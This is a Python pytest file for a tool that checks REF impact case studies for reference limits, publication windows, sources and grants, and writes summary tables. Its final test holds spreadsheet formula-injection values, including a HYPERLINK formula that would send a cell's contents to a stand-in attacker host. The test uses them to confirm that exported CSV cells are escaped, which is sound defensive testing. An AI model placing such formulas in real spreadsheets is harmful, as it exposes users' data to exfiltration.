"""The REF checks as a research office meets them: check on .txt/.pdf/.docx, the JSON
document object, --exercise, --grants, and the ref-summary table over a folder."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from refenrich.cli import main
from refenrich.testing.gtr_server import FakeGrant, FakeGtr
from refenrich.testing.ref_samples import SampleOutput, case_study_text, output_record

from .conftest import EXAMPLE_DOCUMENT, EXAMPLE_RECORDS
from .ref_fixtures import text_pages, write_docx, write_pdf

OFFLINE = ["--index", str(EXAMPLE_RECORDS), "--offline"]


def run(args: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(args, environ={}, stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture
def example() -> Path:
    if not EXAMPLE_DOCUMENT.exists():
        pytest.skip("the example case study (../shared/examples) is not here")
    return EXAMPLE_DOCUMENT


def test_example_text_has_the_ref_block(example: Path) -> None:
    code, out, _ = run(["check", str(example), *OFFLINE])
    assert code == 1  # the review DOI's venue, as before
    block = out[out.index("REF 2021 checks") : out.index("Summary:")]
    assert "exercise not named in the document, so REF 2021" in block
    assert "✓ references to the research: 5 (at most 6)" in block
    assert "✓ outputs first published 2000-01-01 to 2020-12-31: 5 of 5" in block
    assert "✓ sources to corroborate the impact: 7 (at most 10)" in block
    assert "B.  [testimonial]" in block
    assert "E.  [reference, no DOI to check]" in block
    assert "ES/N005945/2 (ESRC, Sheffield, 2016-09 to 2019-12, GBP 659,794)" in block
    assert out.index("REF 2021 checks") < out.index("Summary:")


def test_example_jsonl_document_object(example: Path) -> None:
    _code, out, _ = run(["check", str(example), *OFFLINE, "--format", "jsonl"])
    rows = [json.loads(line) for line in out.splitlines()]
    document = rows[-1]
    assert {"kind", "source", "exercise", "findings"} <= set(document)
    assert "raw" not in document
    assert (document["kind"], document["exercise"], document["findings"]) == (
        "document",
        "ref2021",
        [],
    )
    summary = document["summary"]
    assert (summary["outputs"], summary["outputs_verified"], summary["outputs_with_errors"]) == (
        5,
        4,
        1,
    )
    assert summary["sources"] == 7
    assert summary["grants"] == 2
    assert summary["status"] == "errors"
    assert [g["reference"] for g in document["grants"]] == ["ES/N005945/2", "ES/N005945/1"]


def test_example_as_pdf_and_docx(example: Path, tmp_path: Path) -> None:
    text = example.read_text(encoding="utf-8")
    pdf = write_pdf(tmp_path / "example.pdf", text_pages(text, 48))
    docx = write_docx(tmp_path / "example.docx", text, section_a_table=False)
    for path in (pdf, docx):
        code, out, err = run(["check", str(path), *OFFLINE])
        assert code == 1, err
        assert "5 references" in out
        assert "Summary: 5 checked, 4 verified, 0 with warnings, 1 with errors" in out
        assert "sources to corroborate the impact: 7 (at most 10)" in out


def test_exercise_forced_on_a_plain_list_and_ref2014_window(example: Path) -> None:
    code, out, _ = run(
        ["check", str(example), *OFFLINE, "--exercise", "ref2014", "--format", "jsonl"]
    )
    document = json.loads(out.splitlines()[-1])
    assert document["exercise"] == "ref2014"
    outside = [f for f in document["findings"] if f["code"] == "ref_output_outside_window"]
    # Every output is after 31 December 2013 except none: all five are outside REF 2014's window.
    assert len(outside) == 5
    assert all(f["severity"] == "error" for f in outside)
    assert code == 1


def test_plain_list_gets_no_ref_rules_unless_asked() -> None:
    records = EXAMPLE_RECORDS
    line = (
        "Richardson, L., Durose, C. and Perry, B. (2019) \u2018Three Tyrannies of Participatory "
        "Governance\u2019, Journal of Chinese Governance, 4(2): 123-143. "
        "https://doi.org/10.1080/23812346.2019.1595912\n"
    )
    path = Path(__file__).parent / "_tmp_list.txt"
    path.write_text(line, encoding="utf-8")
    try:
        _, out, _ = run(["check", str(path), "--index", str(records), "--offline"])
        assert "REF 2021 checks" not in out
        _, out, _ = run(
            ["check", str(path), "--index", str(records), "--offline", "--exercise", "ref2021"]
        )
        assert "REF 2021 checks (not recognised as a case study; exercise as asked)" in out
    finally:
        path.unlink()


def _study(tmp_path: Path, name: str, years: list[int], sources: int = 3) -> Path:
    outputs = [
        SampleOutput(
            authors=[("Okafor", "Maria")],
            year=year,
            title=f"Participation study {name} {n}",
            journal="Urban Studies",
            volume="3",
            issue="1",
            pages="1-9",
            doi=f"10.5555/{name}.{n}",
        )
        for n, year in enumerate(years)
    ]
    text = case_study_text(
        title=f"Case {name}",
        unit="20 - Social Work and Social Policy",
        institution="University of Example",
        outputs=outputs,
        sources=[f"Testimonial from partner {n}." for n in range(sources)],
        grants="ESRC grant ES/N005945/1 (Salford, Jan\u2013Aug 2016, GBP801,488).",
    )
    path = tmp_path / f"{name}.txt"
    path.write_text(text, encoding="utf-8")
    records = tmp_path / "records.jsonl"
    with records.open("a", encoding="utf-8") as handle:
        for output in outputs:
            handle.write(json.dumps(output_record(output)) + "\n")
    return path


def test_ref_summary_table_over_a_folder(tmp_path: Path) -> None:
    folder = tmp_path / "cases"
    folder.mkdir()
    _study(folder, "good", [2010, 2015])
    _study(folder, "old", [1995, 2015])
    _study(folder, "long", [2010] * 7, sources=12)
    write_pdf(folder / "pdfcase.pdf", text_pages((folder / "good.txt").read_text(), 40))
    (folder / "broken.pdf").write_bytes(b"%PDF-1.4 nothing")
    records = folder / "records.jsonl"
    moved = tmp_path / "records.jsonl"
    records.rename(moved)
    table = tmp_path / "table.csv"
    code, _, err = run(
        ["ref-summary", str(folder), "-o", str(table), "--index", str(moved), "--offline"]
    )
    rows = {Path(row["source"]).name: row for row in csv.DictReader(table.open(encoding="utf-8"))}
    assert set(rows) == {"good.txt", "old.txt", "long.txt", "pdfcase.pdf", "broken.pdf"}
    assert rows["good.txt"]["status"] == "ok"
    assert rows["good.txt"]["outputs_verified"] == "2"
    assert rows["pdfcase.pdf"]["status"] == "ok"
    assert rows["pdfcase.pdf"]["title"] == "Case good"
    assert rows["old.txt"]["outputs_outside_window"] == "1"
    assert rows["old.txt"]["problems"] == "ref_output_outside_window"
    assert rows["long.txt"]["problems"] == "ref_too_many_references;ref_too_many_sources"
    assert rows["broken.pdf"]["status"] == "unreadable"
    assert code == 1
    assert "wrote 5 rows" in err
    code, out, _ = run(
        [
            "ref-summary",
            str(folder / "good.txt"),
            "--format",
            "jsonl",
            "--index",
            str(moved),
            "--offline",
        ]
    )
    assert code == 0
    assert json.loads(out)["unit_of_assessment"] == "20 - Social Work and Social Policy"


def test_grants_flag(tmp_path: Path) -> None:
    path = _study(tmp_path, "g", [2015, 2016])
    records = tmp_path / "records.jsonl"
    code, _, err = run(["check", str(path), "--index", str(records), "--offline", "--grants"])
    assert code == 2
    assert "drop --offline" in err
    grant = FakeGrant("ES/N005945/1", "University of Leeds", "2016-01-01", "2016-08-31", 801488)
    with FakeGtr([grant]) as fake:
        code, out, _ = run(
            [
                "check",
                str(path),
                "--index",
                str(records),
                "--grants",
                "--gtr-url",
                fake.url,
                "--crossref-url",
                "http://127.0.0.1:9",
            ]
        )
    assert "Gateway to Research's lead organisation is University of Leeds" in out
    assert code == 1


def test_exercise_file_option(tmp_path: Path) -> None:
    path = _study(tmp_path, "x", [2015, 2016, 2017])
    profile = tmp_path / "p.toml"
    profile.write_text(
        'id = "strict"\nname = "Strict"\n[references]\nmax = 2\nseverity = "error"\nsource = "test"\n'
    )
    code, out, _ = run(
        [
            "check",
            str(path),
            "--index",
            str(tmp_path / "records.jsonl"),
            "--offline",
            "--exercise-file",
            str(profile),
        ]
    )
    assert "Strict checks" in out
    assert "3 references to the research; Strict allows at most 2." in out
    assert code == 1


def _paper(folder: Path) -> Path:
    """A paper's bibliography (not a case study) citing a record of the index."""
    path = folder / "paper.txt"
    path.write_text(
        "References\n\nOkafor, M. (2010) 'Participation study good 0', Urban Studies, 3(1): "
        "1-9. https://doi.org/10.5555/good.0\n",
        encoding="utf-8",
    )
    return path


def test_batch_runs_the_ref_checks_per_case_study_and_keeps_them_on_resume(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "cases"
    folder.mkdir()
    _study(folder, "good", [2010, 2015])
    _study(folder, "old", [1995, 2015])
    _paper(folder)
    records = tmp_path / "records.jsonl"
    (folder / "records.jsonl").rename(records)
    state = tmp_path / "state.jsonl"
    report = tmp_path / "report.html"
    base = ["check", str(folder), "--index", str(records), "--offline", "--resume", str(state)]

    code, out, err = run([*base, "--report", str(report)])
    assert code == 1  # old.txt's output before the window is an error
    assert out.count("REF 2021 checks (impact case study") == 2
    paper_block = out[out.index("paper.txt") :]
    assert "REF 2021 checks" not in paper_block.split("== ")[0]
    assert "✗ outputs first published 2000-01-01 to 2020-12-31: 1 of 2" in out
    assert "2 case studies" in err  # the summary table's REF column
    page = report.read_text(encoding="utf-8")
    assert page.count('class="ref-checks"') == 2
    records_in_state = [json.loads(line) for line in state.read_text().splitlines()]
    checks = [r for r in records_in_state if r["kind"] == "document_check"]
    assert sorted(Path(r["document"]).name for r in checks) == ["good.txt", "old.txt"]

    # Resumed: nothing is looked up again, and the document findings are still there.
    code, out, err = run([*base, "--format", "jsonl"])
    assert code == 1
    assert "This run checked 0 reference(s)" in err
    rows = [json.loads(line) for line in out.splitlines()]
    documents = [row for row in rows if row.get("kind") == "document"]
    assert sorted(Path(d["source"]).name for d in documents) == ["good.txt", "old.txt"]
    old = next(d for d in documents if d["source"].endswith("old.txt"))
    assert [f["code"] for f in old["findings"]] == ["ref_output_outside_window"]
    assert all("raw" not in d for d in documents)
    # Each document object follows that document's own references.
    for position, row in enumerate(rows):
        if row.get("kind") == "document":
            assert rows[position - 1]["document"] == row["source"]
    assert not any(r.get("source", "").endswith("paper.txt") for r in documents)
    again = [json.loads(line) for line in state.read_text().splitlines()]
    assert sum(1 for r in again if r["kind"] == "document_check") == 2  # unchanged, not re-added


def test_batch_exercise_applies_the_rules_to_every_document(tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    _study(folder, "good", [2010])
    _paper(folder)
    records = tmp_path / "records.jsonl"
    (folder / "records.jsonl").rename(records)
    args = ["check", str(folder), "--index", str(records), "--offline", "--format", "jsonl"]
    _, out, _ = run(args)
    kinds = [json.loads(line).get("kind") for line in out.splitlines()]
    assert kinds.count("document") == 1
    _, out, _ = run([*args, "--exercise", "ref2014"])
    documents = [json.loads(line) for line in out.splitlines() if '"kind": "document"' in line]
    assert [Path(d["source"]).name for d in documents] == ["good.txt", "paper.txt"]
    assert all(d["exercise"] == "ref2014" for d in documents)


def test_single_file_report_has_the_case_study_section(tmp_path: Path) -> None:
    path = _study(tmp_path, "s", [2010, 2015])
    records = tmp_path / "records.jsonl"
    for suffix in (".html", ".md", ".json"):
        target = tmp_path / f"r{suffix}"
        run(["check", str(path), "--index", str(records), "--offline", "--report", str(target)])
        content = target.read_text(encoding="utf-8")
        assert "REF 2021 checks" in content or '"exercise": "ref2021"' in content
        assert "ES/N005945/1" in content
        assert "testimonial" in content
    data = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    section = data["documents"][0]["case_study"]
    assert section["rules"][0] == {
        "passed": True,
        "text": "references to the research: 2 (at most 6)",
    }
    assert section["window_start"] == "2000-01-01"
    paper = _paper(tmp_path)
    target = tmp_path / "paper.html"
    run(["check", str(paper), "--index", str(records), "--offline", "--report", str(target)])
    assert 'class="ref-checks"' not in target.read_text(encoding="utf-8")
    target = tmp_path / "paper.json"
    run(["check", str(paper), "--index", str(records), "--offline", "--report", str(target)])
    assert json.loads(target.read_text(encoding="utf-8"))["documents"][0]["case_study"] is None


def test_summary_csv_cells_never_start_like_a_formula() -> None:
    import csv
    import io

    from refenrich.ref.check import CaseStudySummary
    from refenrich.ref.render import summary_table

    row = CaseStudySummary(
        source="evil.txt",
        recognised=True,
        exercise="ref2021",
        title='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        unit_of_assessment="-2+3",
        institution="@SUM(1+1)",
    )
    [parsed] = list(csv.DictReader(io.StringIO(summary_table([row]))))
    assert parsed["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert parsed["unit_of_assessment"] == "'-2+3"
    assert parsed["institution"] == "'@SUM(1+1)"
    assert parsed["source"] == "evil.txt"
